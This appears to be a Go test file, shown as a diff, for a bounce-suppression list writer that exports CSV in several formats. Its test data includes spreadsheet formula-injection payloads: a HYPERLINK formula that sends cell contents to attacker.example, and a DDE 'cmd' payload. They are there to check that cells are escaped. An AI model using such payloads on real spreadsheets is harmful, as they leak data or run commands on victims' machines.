@@ -1,0 +1,246 @@
+package suppress
+
+import (
+	"bytes"
+	"encoding/csv"
+	"errors"
+	"flag"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/bouncer-dev/bouncer/classify"
+)
+
+var update = flag.Bool("update", false, "rewrite the golden files in testdata/")
+
+// goldenLists is a history with every category, awkward diagnostics and
+// out-of-order input, decided with the default policy.
+func goldenLists() Lists {
+	events := []Event{
+		{Address: "zed@example.org", Category: classify.CategoryHard, Reason: classify.ReasonUserUnknown,
+			Status: "5.1.1", ReplyCode: "550", Diagnostic: "550 5.1.1 <zed@example.org>:\r\n\tRecipient address rejected: User unknown",
+			Date: day(3, 4)},
+		{Address: "abuse-report@example.net", Category: classify.CategoryComplaint, Reason: classify.ReasonFeedback,
+			Date: day(5, 0)},
+		{Address: "full@example.com", Category: classify.CategorySoft, Reason: classify.ReasonMailboxFull,
+			Status: "4.2.2", ReplyCode: "452", Diagnostic: "452 4.2.2 Mailbox full", Date: day(1, 0)},
+		{Address: "full@example.com", Category: classify.CategorySoft, Reason: classify.ReasonMailboxFull,
+			Status: "4.2.2", ReplyCode: "452", Diagnostic: "452 4.2.2 Mailbox full", Date: day(2, 0)},
+		{Address: "full@example.com", Category: classify.CategorySoft, Reason: classify.ReasonMailboxFull,
+			Status: "5.2.2", ReplyCode: "552", Diagnostic: `552 5.2.2 "quota" exceeded, try later`, Date: day(4, 12)},
+		{Address: "evil@example.com", Category: classify.CategoryHard, Reason: classify.ReasonUserUnknown,
+			Status: "5.1.1", ReplyCode: "550", Diagnostic: `=HYPERLINK("http://attacker.example/?x="&A1,"click")`, Date: day(2, 0)},
+		{Address: "minus@example.com", Category: classify.CategoryHard, Reason: classify.ReasonSuspend,
+			Status: "5.2.1", Diagnostic: "-2+3 account disabled", Date: day(2, 0)},
+		{Address: "jürgen@xn--bcher-kva.example", Category: classify.CategoryHard, Reason: classify.ReasonHostUnknown,
+			Status: "5.1.2", Diagnostic: "Host oder Domänenname nicht gefunden. " + strings.Repeat("lang ", 80), Date: day(0, 0)},
+		{Address: "blocked@example.com", Category: classify.CategoryPolicy, Reason: classify.ReasonBlocked,
+			Status: "5.7.1", ReplyCode: "554", Diagnostic: "@spamhaus listed 192.0.2.1", Date: day(1, 0)},
+		{Address: "ooo@example.com", Category: classify.CategoryNone, Reason: classify.ReasonVacation, Date: day(5, 0)},
+	}
+	return Decide(events, nil, nil)
+}
+
+func TestWriteCSVGolden(t *testing.T) {
+	l := goldenLists()
+	for _, f := range Formats() {
+		t.Run(string(f), func(t *testing.T) {
+			var b bytes.Buffer
+			if err := WriteCSV(&b, f, append(l.Suppressed, l.Policy...)); err != nil {
+				t.Fatalf("WriteCSV(%s) = %v", f, err)
+			}
+			golden := filepath.Join("testdata", string(f)+".golden")
+			if *update {
+				if err := os.WriteFile(golden, b.Bytes(), 0o644); err != nil {
+					t.Fatal(err)
+				}
+			}
+			want, err := os.ReadFile(golden)
+			if err != nil {
+				t.Fatalf("%v (run go test -update to create it)", err)
+			}
+			if !bytes.Equal(b.Bytes(), want) {
+				t.Errorf("WriteCSV(%s) =\n%s\nwant (%s)\n%s", f, b.Bytes(), golden, want)
+			}
+			if f != FormatPlain {
+				r := csv.NewReader(bytes.NewReader(b.Bytes()))
+				if _, err := r.ReadAll(); err != nil {
+					t.Errorf("WriteCSV(%s) is not valid CSV: %v", f, err)
+				}
+			}
+		})
+	}
+}
+
+func TestWriteCSVDeterministic(t *testing.T) {
+	l := goldenLists()
+	entries := append(l.Suppressed, l.Policy...)
+	reversed := make([]Entry, len(entries))
+	for i, e := range entries {
+		reversed[len(entries)-1-i] = e
+	}
+	for _, f := range Formats() {
+		var a, b bytes.Buffer
+		if err := WriteCSV(&a, f, entries); err != nil {
+			t.Fatal(err)
+		}
+		if err := WriteCSV(&b, f, reversed); err != nil {
+			t.Fatal(err)
+		}
+		if !bytes.Equal(a.Bytes(), b.Bytes()) {
+			t.Errorf("WriteCSV(%s) differs between two writes of the same entries", f)
+		}
+	}
+}
+
+// TestWriteCSVFormulaInjection reads every cell back and checks that none
+// would start a formula in a spreadsheet.
+func TestWriteCSVFormulaInjection(t *testing.T) {
+	var entries []Entry
+	for i, s := range []string{"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "=cmd|'/C calc'!A0"} {
+		entries = append(entries, Entry{
+			Address:    string(rune('a'+i)) + "@example.com",
+			Category:   classify.CategoryHard,
+			Reason:     classify.Reason(s),
+			Status:     s,
+			ReplyCode:  s,
+			Diagnostic: s,
+			Bounces:    1,
+		})
+	}
+	for _, f := range []Format{FormatGeneric, FormatMailchimp} {
+		var b bytes.Buffer
+		if err := WriteCSV(&b, f, entries); err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(&b).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, row := range rows[1:] {
+			for _, cell := range row {
+				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+					t.Errorf("WriteCSV(%s): cell %q starts a formula", f, cell)
+				}
+			}
+		}
+	}
+	tests := []struct{ in, want string }{
+		{"=1+1", "'=1+1"},
+		{"+1", "'+1"},
+		{"-1", "'-1"},
+		{"@x", "'@x"},
+		{"\tx", "'\tx"},
+		{"\rx", "'\rx"},
+		{"5.1.1", "5.1.1"},
+		{"a=b", "a=b"},
+		{"", ""},
+	}
+	for _, tt := range tests {
+		if got := safe(tt.in); got != tt.want {
+			t.Errorf("safe(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+}
+
+func TestOneLine(t *testing.T) {
+	tests := []struct{ name, in, want string }{
+		{"folded", "550 5.1.1\r\n\tuser unknown", "550 5.1.1 user unknown"},
+		{"trim", "  x  ", "x"},
+		{"control", "a\x00\x1bb", "a b"},
+		{"invalid utf8", "a\xffb", "a\uFFFDb"},
+		{"long", strings.Repeat("é", 400), strings.Repeat("é", (MaxDiagnostic-3)/2) + "…"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := oneLine(tt.in)
+			if got != tt.want {
+				t.Errorf("oneLine(%q) = %q, want %q", tt.in, got, tt.want)
+			}
+			if len(got) > MaxDiagnostic {
+				t.Errorf("oneLine(%q) is %d bytes, over MaxDiagnostic", tt.in, len(got))
+			}
+		})
+	}
+}
+
+func TestParseFormat(t *testing.T) {
+	tests := []struct {
+		in   string
+		want Format
+		err  error
+	}{
+		{"", FormatGeneric, nil},
+		{"generic", FormatGeneric, nil},
+		{"Listmonk", FormatListmonk, nil},
+		{"MAILCHIMP", FormatMailchimp, nil},
+		{"mautic", FormatMautic, nil},
+		{"mailgun", FormatMailgun, nil},
+		{"plain", FormatPlain, nil},
+		{"excel", "", ErrUnknownFormat},
+	}
+	for _, tt := range tests {
+		got, err := ParseFormat(tt.in)
+		if got != tt.want || !errors.Is(err, tt.err) {
+			t.Errorf("ParseFormat(%q) = %q, %v, want %q, %v", tt.in, got, err, tt.want, tt.err)
+		}
+	}
+	if err := WriteCSV(&bytes.Buffer{}, "excel", nil); !errors.Is(err, ErrUnknownFormat) {
+		t.Errorf("WriteCSV(excel) = %v, want ErrUnknownFormat", err)
+	}
+}
+
+func TestWriteFile(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "list.csv")
+	l := goldenLists()
+	if err := os.WriteFile(path, []byte("old"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if err := WriteFile(path, FormatGeneric, l.Suppressed); err != nil {
+		t.Fatalf("WriteFile() = %v", err)
+	}
+	var want bytes.Buffer
+	if err := WriteCSV(&want, FormatGeneric, l.Suppressed); err != nil {
+		t.Fatal(err)
+	}
+	got, err := os.ReadFile(path)
+	if err != nil || !bytes.Equal(got, want.Bytes()) {
+		t.Errorf("WriteFile() wrote %q, %v, want %q", got, err, want.Bytes())
+	}
+	if fi, err := os.Stat(path); err != nil || fi.Mode().Perm() != 0o644 {
+		t.Errorf("mode = %v, %v, want 0644", fi.Mode(), err)
+	}
+	names, _ := os.ReadDir(dir)
+	if len(names) != 1 {
+		t.Errorf("directory holds %d files after WriteFile, want 1 (no temporary left)", len(names))
+	}
+	if err := WriteFile(filepath.Join(dir, "missing", "list.csv"), FormatGeneric, nil); err == nil {
+		t.Errorf("WriteFile() into a missing directory = nil, want an error")
+	}
+}
+
+func TestWriteDir(t *testing.T) {
+	dir := filepath.Join(t.TempDir(), "out")
+	paths, err := WriteDir(dir, FormatPlain, goldenLists())
+	if err != nil {
+		t.Fatalf("WriteDir() = %v", err)
+	}
+	want := map[string]string{
+		FileHard:      "evil@example.com\njürgen@xn--bcher-kva.example\nminus@example.com\nzed@example.org\n",
+		FileSoft:      "full@example.com\n",
+		FilePolicy:    "blocked@example.com\n",
+		FileComplaint: "abuse-report@example.net\n",
+	}
+	if len(paths) != len(want) {
+		t.Errorf("WriteDir() = %v, want %d paths", paths, len(want))
+	}
+	for name, w := range want {
+		got, err := os.ReadFile(filepath.Join(dir, name))
+		if err != nil || string(got) != w {
+			t.Errorf("%s = %q, %v, want %q", name, got, err, w)
+		}
+	}
+}
